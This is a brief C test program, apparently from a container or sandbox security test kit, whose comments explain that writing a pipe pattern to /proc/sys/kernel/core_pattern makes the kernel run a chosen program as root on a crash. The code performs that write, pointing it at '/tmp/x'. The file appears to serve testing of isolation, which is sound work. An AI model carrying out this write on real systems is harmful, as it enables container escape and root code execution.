// tries: to have the kernel start a program outside when something crashes
// works: a pattern that begins with a pipe runs as root
// see: core(5); CVE-2022-0492's cousin; container escapes by core_pattern
// goal: change
// user: root
// watch: /proc/sys/kernel/core_pattern
// alone: it is the machine's
#include "../kit.h"

int main(void)
{
	write_text("/proc/sys/kernel/core_pattern", "|/tmp/x");
	return 0;
}
